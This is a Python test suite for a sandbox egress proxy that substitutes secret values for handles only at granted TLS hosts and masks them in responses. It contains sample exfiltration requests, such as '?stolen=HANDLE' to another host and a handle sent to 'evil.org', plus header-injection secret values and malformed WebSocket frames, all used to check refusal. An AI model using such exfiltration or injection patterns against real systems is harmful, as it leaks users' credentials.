"""Secrets: a guest holds a handle; the value is placed on the way out, for the right host only, and never returns."""

from __future__ import annotations

import base64
import json
import re
from collections.abc import Mapping
from pathlib import Path
from urllib.parse import quote, quote_plus

import pytest
import trio
from hypothesis import given
from hypothesis import strategies as st

from fairlead.errors import ConfigError
from fairlead_sandbox.egress import Decision, Egress, SecretGrant, new_handle
from fairlead_sandbox.egress._secrets import Secrets
from fairlead_sandbox.egress._veil import Veil
from fairlead_sandbox.egress._websocket import Frame, FrameReader

from .egress_world import (
    API,
    GRANTS,
    OTHER,
    VALUE,
    Answer,
    Certificate,
    World,
    make_certificate,
    opened_world,
    read_head,
    secret,
)


@pytest.fixture(scope="module")
def certificate(tmp_path_factory: pytest.TempPathFactory) -> Certificate:
    return make_certificate(tmp_path_factory.mktemp("certificate"))


JSON = "Content-Type: application/json; charset=utf-8"
FORM = "Content-Type: application/x-www-form-urlencoded"


def nothing_shown(answer: Answer, decisions: list[Decision]) -> None:
    """The value is in no form in what the guest or a log sees."""
    seen = answer.body.decode("latin-1") + repr(answer.headers) + answer.phrase + repr(decisions)
    plain = base64.b64encode(VALUE.encode()).decode().rstrip("=")
    for form in (VALUE, quote(VALUE), quote(VALUE, safe=""), quote_plus(VALUE), json.dumps(VALUE)[1:-1], plain):
        assert form not in seen


async def test_handle_is_replaced_wherever_libraries_put_a_token(certificate: Certificate, tmp_path: Path) -> None:
    """Header, path, query, JSON, form: the server gets the value, written so that it stays one value."""
    handle, secrets = secret()
    async with opened_world(tmp_path, certificate, secrets=secrets) as world:
        answer = await world.ask(
            f"/https/{API}/bot{handle}/send?key={handle}&x=1",
            f"Authorization: Bearer {handle}",
            f"X-Two: {handle} {handle}",
        )
        got = world.server.requests[-1]
        assert f"/bot{quote(VALUE, safe=':=')}/send?key={quote(VALUE, safe=':')}&x=1" == got["path"]
        assert f"Bearer {VALUE}" == got["headers"]["authorization"]
        assert f"{VALUE} {VALUE}" == got["headers"]["x-two"]
        nothing_shown(answer, world.decisions)
        assert f"Bearer {handle}" == answer.headers["x-echo"]
        assert handle in answer.told["path"]
        body = json.dumps({"token": handle, "list": [handle]}).encode()
        await world.ask(f"/https/{API}/", JSON, method="POST", body=body)
        got = world.server.requests[-1]
        assert {"token": VALUE, "list": [VALUE]} == json.loads(got["body"])
        assert str(len(got["body"])) == got["headers"]["content-length"]
        await world.ask(f"/https/{API}/", FORM, method="POST", body=f"a={handle}&b=2".encode())
        assert f"a={quote_plus(VALUE)}&b=2" == world.server.requests[-1]["body"]


async def test_handle_in_basic_authentication_is_replaced(certificate: Certificate, tmp_path: Path) -> None:
    """Libraries encode it before they send it; and a server that repeats it does not give it away."""
    handle, secrets = secret()
    async with opened_world(tmp_path, certificate, secrets=secrets) as world:
        for user in ("u", "us", "user"):
            coded = base64.b64encode(f"{user}:{handle}".encode()).decode()
            answer = await world.ask(f"/https/{API}/", f"Authorization: Basic {coded}")
            sent = world.server.requests[-1]["headers"]["authorization"].partition(" ")[2]
            assert f"{user}:{VALUE}" == base64.b64decode(sent).decode()
            nothing_shown(answer, world.decisions)
            assert handle in answer.headers["x-echo"]
            assert sent[12:24] not in answer.headers["x-echo"]


EXFILTRATION = {
    "header": (f"/https/{OTHER}/", ["Authorization: Bearer HANDLE"], b""),
    "other header": (f"/https/{OTHER}/", ["X-Data: HANDLE"], b""),
    "cookie": (f"/https/{OTHER}/", ["Cookie: a=HANDLE"], b""),
    "basic": (f"/https/{OTHER}/", ["Authorization: Basic BASIC"], b""),
    "path": (f"/https/{OTHER}/HANDLE", [], b""),
    "query": (f"/https/{OTHER}/?stolen=HANDLE", [], b""),
    "json": (f"/https/{OTHER}/", [JSON], b'{"stolen": "HANDLE"}'),
    "form": (f"/https/{OTHER}/", [FORM], b"stolen=HANDLE"),
    "json api": (f"/https/{OTHER}/", ["Content-Type: application/vnd.api+json"], b'"HANDLE"'),
    "wildcard": ("/https/one.wild.example.org/HANDLE", [], b""),
}


@pytest.mark.parametrize("way", EXFILTRATION)
async def test_secret_never_goes_to_another_host(certificate: Certificate, tmp_path: Path, way: str) -> None:
    """Not even the handle: the request is not sent, and nothing is connected to."""
    handle, secrets = secret()
    target, headers, body = EXFILTRATION[way]
    basic = base64.b64encode(f"u:{handle}".encode()).decode()
    async with opened_world(tmp_path, certificate, secrets=secrets) as world:
        answer = await world.ask(
            target.replace("HANDLE", handle),
            *(line.replace("HANDLE", handle).replace("BASIC", basic) for line in headers),
            method="POST",
            body=body.replace(b"HANDLE", handle.encode()),
        )
        assert (403, "secret-elsewhere") == (answer.status, answer.refused)
        nothing_shown(answer, world.decisions)
        assert ([], []) == (world.dialed, world.server.requests)


async def test_secret_is_not_sent_without_tls(certificate: Certificate, tmp_path: Path) -> None:
    """Also not to a host that may have it; but to an address that the configuration names itself."""
    handle, secrets = secret(VALUE, f"{API}:80", f"{API}:443")
    async with opened_world(tmp_path, certificate, secrets=secrets) as world:
        assert "secret-plain" == (await world.ask(f"http://{API}/{handle}", host=API)).refused
        assert [] == world.dialed


async def test_secret_is_sent_to_a_granted_address(certificate: Certificate, tmp_path: Path) -> None:
    """A model server of one's own, with a key."""
    handle = new_handle()
    secrets = {handle: SecretGrant(VALUE, ("127.0.0.1:11434",))}
    async with opened_world(tmp_path, certificate, grants=("127.0.0.1:11434",), secrets=secrets) as world:
        await world.ask("/http/127.0.0.1:11434/", f"Authorization: Bearer {handle}")
        assert f"Bearer {VALUE}" == world.server.requests[0]["headers"]["authorization"]


async def test_unknown_handle_is_refused(certificate: Certificate, tmp_path: Path) -> None:
    """Another plugin's is worth nothing here."""
    _, secrets = secret()
    async with opened_world(tmp_path, certificate, secrets=secrets) as world:
        assert "secret-unknown" == (await world.ask(f"/https/{API}/{new_handle()}")).refused
        assert [] == world.dialed


async def test_small_request_does_not_become_a_large_one(certificate: Certificate, tmp_path: Path) -> None:
    """A thousand handles of a long secret would be megabytes here, for each connection."""
    handle, secrets = secret("x" * 4000)
    async with opened_world(tmp_path, certificate, secrets=secrets) as world:
        body = json.dumps([handle] * 1000).encode()
        assert "secret-flood" == (await world.ask(f"/https/{API}/", JSON, method="POST", body=body)).refused
        assert "secret-flood" == (await world.ask(f"/https/{API}/{handle * 33}")).refused
        assert [] == world.dialed


async def test_secret_granted_for_no_host_goes_nowhere(certificate: Certificate, tmp_path: Path) -> None:
    """An empty list is closed here too."""
    handle = new_handle()
    async with opened_world(tmp_path, certificate, secrets={handle: SecretGrant(VALUE)}) as world:
        assert "secret-elsewhere" == (await world.ask(f"/https/{API}/{handle}")).refused


@pytest.mark.parametrize(
    "value", ["line\r\nX-Injected: yes", "line\nbreak", "nul\0byte", "tab\tstop", "del\x7f"], ids=ascii
)
async def test_secret_cannot_write_a_header(certificate: Certificate, tmp_path: Path, value: str) -> None:
    """One with a line break is refused in a header, and is written as one value elsewhere."""
    handle, secrets = secret(value)
    async with opened_world(tmp_path, certificate, secrets=secrets) as world:
        assert "secret-malformed" == (await world.ask(f"/https/{API}/", f"X: {handle}")).refused
        basic = base64.b64encode(f"u:{handle}".encode()).decode()
        assert "secret-malformed" == (await world.ask(f"/https/{API}/", f"Authorization: Basic {basic}")).refused
        assert [] == world.dialed
        await world.ask(f"/https/{API}/{handle}?{handle}", JSON, method="POST", body=f'["{handle}"]'.encode())
        (got,) = world.server.requests
        assert f"/{quote(value, safe=':')}?{quote(value, safe=':')}" == got["path"]
        assert [value] == json.loads(got["body"])
        assert "x-injected" not in got["headers"]


@pytest.mark.parametrize("value", [" leading", "trailing ", "ünïcödé"])
async def test_odd_secret_is_sent_or_refused_without_being_shown(
    certificate: Certificate, tmp_path: Path, value: str
) -> None:
    """Never half, and its value in no message."""
    handle, secrets = secret(value)
    async with opened_world(tmp_path, certificate, secrets=secrets) as world:
        answer = await world.ask(f"/https/{API}/", f"X: a{handle}b")
        assert 200 == answer.status
        answer = await world.ask(f"/https/{API}/", f"X: {handle}")
        assert answer.status in (200, 400)
        assert value.strip() not in answer.body.decode() + repr(world.decisions)


REPEATED = {
    "as it is": VALUE,
    "percent": quote(VALUE, safe=""),
    "percent small": re.sub("%..", lambda match: match[0].lower(), quote(VALUE, safe="")),
    "form": quote_plus(VALUE),
    "json": json.dumps(VALUE)[1:-1],
    "json of PHP": VALUE.replace("/", "\\/"),
    "html": VALUE.replace("&", "&amp;"),
    "base64": base64.b64encode(VALUE.encode()).decode(),
    "base64 inside": base64.b64encode(f"x{VALUE}y".encode()).decode(),
    "base64 urlsafe": base64.urlsafe_b64encode(f"xx{VALUE}y".encode()).decode(),
}  # fmt: skip


@pytest.mark.parametrize("form", REPEATED)
@pytest.mark.parametrize("way", ["/repeat", "/drip"])
async def test_value_never_comes_back(certificate: Certificate, tmp_path: Path, way: str, form: str) -> None:
    """However a server repeats it, at once or byte by byte, the guest sees its handle."""
    handle, secrets = secret()
    async with opened_world(tmp_path, certificate, secrets=secrets) as world:
        body = f"before {REPEATED[form]} after {REPEATED[form]}".encode()
        answer = await world.ask(f"/https/{API}{way}", "Content-Type: text/plain", method="POST", body=body)
        assert body.decode() == world.server.requests[-1]["body"]
        assert 2 == answer.body.count(handle.encode())
        assert answer.body.startswith(b"before ")
        nothing_shown(answer, world.decisions)


async def test_connection_from_before_is_closed_where_the_next_request_is_refused(
    certificate: Certificate, tmp_path: Path
) -> None:
    """It waited for another request; nobody will ask for it any more."""
    handle, secrets = secret()
    async with opened_world(tmp_path, certificate, secrets=secrets) as world:
        requests = [f"GET /https/{API}/ HTTP/1.1\r\nHost: x\r\n\r\n"]
        requests.append(f"GET /https/{OTHER}/{handle} HTTP/1.1\r\nHost: x\r\n\r\n")
        found = await world.send("".join(requests).encode())
        assert (1, 1) == (found.count(b"200 OK"), found.count(b"403 "))
        with trio.fail_after(5):
            while not world.server.closed:  # noqa: ASYNC110  # the server is beside it
                await trio.sleep(0.01)  # real time: of sockets


async def test_value_kept_by_one_request_is_not_read_by_another(certificate: Certificate, tmp_path: Path) -> None:
    """Answers of every request are looked at, also of other hosts."""
    handle, secrets = secret()
    async with opened_world(tmp_path, certificate, secrets=secrets) as world:
        for host in (API, OTHER):
            answer = await world.ask(f"/https/{host}/repeat", "X: 1", method="POST", body=VALUE.encode())
            assert handle.encode() == answer.body


async def test_answer_cannot_come_in_slices_or_compressed(certificate: Certificate, tmp_path: Path) -> None:
    """The host does not ask for that where it sends secrets, and refuses what comes compressed all the same."""
    handle, secrets = secret()
    async with opened_world(tmp_path, certificate, secrets=secrets) as world:
        sent = ["Range: bytes=0-5", "If-Range: x", "Accept-Encoding: gzip"]
        answer = await world.ask(f"/https/{API}/", *sent)
        assert {"host": API, "accept-encoding": "identity"} == answer.told["headers"]
        answer = await world.ask(f"/https/{API}/gzip", f"X: {handle}")
        assert (502, "encoded") == (answer.status, answer.refused)
        assert 200 == (await world.ask(f"/https/{OTHER}/gzip")).status


async def open_websocket(world: World, handle: str) -> trio.SocketStream:
    stream = await world.connect()
    upgrade = (
        f"Connection: Upgrade\r\nUpgrade: websocket\r\nAuthorization: {handle}\r\nSec-WebSocket-Extensions: x\r\n\r\n"
    )
    await stream.send_all(f"GET /https/{API}/ws HTTP/1.1\r\nHost: x\r\n{upgrade}".encode())
    assert b"HTTP/1.1 101 " == (await read_head(stream))[:13]
    return stream


async def say(stream: trio.SocketStream, *frames: Frame) -> None:
    await stream.send_all(b"".join(frame.encode(masked=True) for frame in frames))


async def hear(stream: trio.SocketStream) -> Frame:
    reader = FrameReader(1_000_000, masked=False)
    while True:
        for frame in reader.feed(bytes(await stream.receive_some(1))):
            return frame


async def test_websocket_carries_handles_and_never_values(certificate: Certificate, tmp_path: Path) -> None:
    """In the handshake and in messages, also where they are cut into frames: only the server ever has the value."""
    handle, secrets = secret()
    async with opened_world(tmp_path, certificate, secrets=secrets) as world:
        with trio.fail_after(10):
            async with await open_websocket(world, handle) as stream:
                assert f"hello from {API}".encode() == (await hear(stream)).data
                identify = json.dumps({"token": handle}).encode()
                await say(stream, Frame(True, 1, identify))
                assert Frame(True, 1, identify) == await hear(stream)
                assert {"token": VALUE} == json.loads(world.server.messages[-1])
                pieces = [
                    Frame(False, 2, identify[:20]),
                    Frame(True, 9, b"ping"),
                    Frame(False, 0, b""),
                    Frame(True, 0, identify[20:]),
                ]
                await say(stream, *pieces)
                assert [Frame(True, 9, b"ping"), Frame(True, 2, identify)] == [await hear(stream) for _ in range(2)]
                await say(stream, Frame(True, 1, b"authorization"))
                assert handle.encode() == (await hear(stream)).data
                long = b"x" * 70_000
                for data in (b"", b"y" * 125, b"y" * 126, long):
                    await say(stream, Frame(True, 1, data))
                    assert data == (await hear(stream)).data
        headers = world.server.requests[0]["headers"]
        assert VALUE == headers["authorization"]
        assert "sec-websocket-extensions" not in headers


WRONG_FRAMES = {
    "not masked": Frame(True, 1, b"x").encode(masked=False),
    "compressed": b"\xc1" + Frame(True, 1, b"x").encode(masked=True)[1:],
    "unknown kind": Frame(True, 3, b"x").encode(masked=True),
    "unknown control": Frame(True, 11, b"x").encode(masked=True),
    "long control": Frame(True, 9, bytes(126)).encode(masked=True),
    "continues nothing": Frame(True, 0, b"x").encode(masked=True),
    "begins twice": Frame(False, 1, b"x").encode(masked=True) + Frame(True, 1, b"x").encode(masked=True),
    "too large": b"\x81\xff" + (1 << 40).to_bytes(8, "big") + bytes(4),
    "too many": Frame(False, 1, bytes(200_000)).encode(masked=True)
    + Frame(False, 0, bytes(200_000)).encode(masked=True),
}


@pytest.mark.parametrize("frames", WRONG_FRAMES)
async def test_websocket_of_other_frames_is_ended(certificate: Certificate, tmp_path: Path, frames: str) -> None:
    """What cannot be read here is not passed on where secrets go."""
    handle, secrets = secret()
    async with opened_world(tmp_path, certificate, secrets=secrets) as world:
        with trio.fail_after(5):
            async with await open_websocket(world, handle) as stream:
                await hear(stream)
                await stream.send_all(WRONG_FRAMES[frames])
                assert b"" == await stream.receive_some()
        assert ["websocket"] == world.refused
        assert [] == world.server.messages


async def test_websocket_with_an_unknown_handle_is_ended(certificate: Certificate, tmp_path: Path) -> None:
    """Before it is sent."""
    handle, secrets = secret()
    async with opened_world(tmp_path, certificate, secrets=secrets) as world:
        with trio.fail_after(5):
            async with await open_websocket(world, handle) as stream:
                await hear(stream)
                await say(stream, Frame(True, 1, new_handle().encode()))
                assert b"" == await stream.receive_some()
        assert ["secret-unknown"] == world.refused


async def test_secret_stands_only_where_it_may(certificate: Certificate, tmp_path: Path) -> None:
    """A key of a header cannot be written into a message that the host shows to others."""
    handle = new_handle()
    secrets = {handle: SecretGrant(VALUE, (f"{API}:443",), places=("header",))}
    async with opened_world(tmp_path, certificate, secrets=secrets) as world:
        body = json.dumps({"text": handle}).encode()
        assert "secret-place" == (await world.ask(f"/https/{API}/", JSON, method="POST", body=body)).refused
        assert "secret-place" == (await world.ask(f"/https/{API}/?{handle}")).refused
        assert 200 == (await world.ask(f"/https/{API}/", f"Authorization: {handle}")).status


@given(st.integers(0, len(VALUE) - 1), st.integers(0, 60))
def test_beginning_of_a_value_comes_as_late_as_any_other_text(count: int, padding: int) -> None:
    """A guest that can have text repeated cannot find a value letter by letter, by what is held back."""
    veil = Secrets({new_handle(): SecretGrant(VALUE)}).veil()
    right, wrong = (b"." * padding + text[:count].encode() for text in (VALUE, "~" * len(VALUE)))
    assert len(veil.fresh().feed(right)) == len(veil.fresh().feed(wrong))


def test_lines_come_at_once() -> None:
    """Events of a stream are whole at their line breaks, so nobody waits for the next."""
    veil = Secrets({new_handle(): SecretGrant(VALUE)}).veil()
    assert b"data: 1\n\n" == veil.feed(b"data: 1\n\n")
    assert b"data: 2\n" == veil.feed(b"data: 2\ndata")
    assert b": 3\n"[:2] == (veil.feed(b": 3") + veil.flush())[4:6]


async def test_long_body_goes_out_as_it_is(certificate: Certificate, tmp_path: Path) -> None:
    """A handle in it is not replaced: what is not read whole cannot be refused before it is sent."""
    handle, secrets = secret()
    body = json.dumps([handle, "x" * 1_100_000]).encode()
    async with opened_world(tmp_path, certificate, secrets=secrets) as world:
        await world.ask(f"/https/{API}/", JSON, method="POST", body=body)
        assert body.decode() == world.server.requests[0]["body"]


async def test_redirect_is_the_guests_and_is_checked_again(certificate: Certificate, tmp_path: Path) -> None:
    """The proxy follows none; where one leads is another request."""
    handle, secrets = secret()
    async with opened_world(tmp_path, certificate, secrets=secrets, grants=GRANTS) as world:
        assert 200 == (await world.ask(f"/https/{API}/{handle}")).status
        assert "secret-elsewhere" == (await world.ask(f"/https/{OTHER}/{handle}")).refused
        assert "not-granted" == (await world.ask(f"/https/evil.org/{handle}")).refused


def test_secret_is_not_shown() -> None:
    """In no repr; a handle and a value that could not be told from other words are errors."""
    grant = SecretGrant(VALUE, (f"{API}:443",))
    assert VALUE not in repr(grant)
    with pytest.raises(ConfigError, match="3 characters"):
        Egress("/tmp/x.sock", [], {new_handle(): SecretGrant("abc")})  # noqa: S108  # nothing is made there
    with pytest.raises(ConfigError, match="no host that can be granted"):
        Egress("/tmp/x.sock", [], {new_handle(): SecretGrant(VALUE, ("example.org",))})  # noqa: S108  # the same
    with pytest.raises(ValueError, match="32 hexadecimal"):
        Egress("/tmp/x.sock", [], {"handle": grant})  # noqa: S108  # the same


@given(st.dictionaries(st.binary(min_size=1, max_size=6), st.just(b"#"), max_size=4), st.lists(st.binary(max_size=8)))
def test_veil_finds_the_same_in_any_pieces(words: Mapping[bytes, bytes], pieces: list[bytes]) -> None:
    """No word is in what came out before its replacement; nothing else is lost."""
    veil, whole = Veil(words), b"".join(pieces)
    found = b"".join(map(veil.feed, pieces)) + veil.flush()
    if not any(word in whole for word in words):
        assert whole == found
    elif not any(b"#" in word for word in words):
        assert b"#" in found


@given(st.text(min_size=4, max_size=30), st.binary(max_size=5), st.binary(max_size=5))
def test_value_is_found_in_any_neighbourhood(value: str, before: bytes, after: bytes) -> None:
    """Plain, and in base64 whatever stands beside it."""
    if not value.isprintable():
        return
    handle = new_handle()
    veil = Secrets({handle: SecretGrant(value)}).veil()
    assert handle.encode() in veil.fresh().whole(before + value.encode() + after)
    if len(value.encode()) >= 8:  # shorter ones have too few characters of their own
        assert handle.encode() in veil.fresh().whole(base64.b64encode(before + value.encode() + after))
